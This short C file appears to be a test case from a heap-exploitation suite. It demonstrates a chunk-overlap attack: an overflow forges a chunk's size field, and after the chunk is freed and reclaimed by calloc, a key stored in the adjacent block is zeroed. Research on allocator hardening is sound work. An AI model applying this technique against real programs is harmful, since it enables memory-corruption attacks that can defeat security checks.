/*
 * metadata: a chunk whose size was enlarged by an overflow is freed and taken by calloc, which
 * clears the secret of the block behind it: here a key, which is then known to be 0.
 */
#include "attack.h"

int main(void) {
  settle(136);
  void *(*volatile clear)(size_t, size_t) = calloc;
  Word *first = allocate(136), *second = allocate(136), *key = allocate(136);
  allocate(136);
  for (int i = 0; i < 17; i++) key[i] = 0x5ec2e7;
  first[17] = 2 * 144 | 1;
  release((void *)second);
  clear(1, 2 * 144 - 8);
  return key[0] == 0 ? GOAL_REACHED : 0;
}
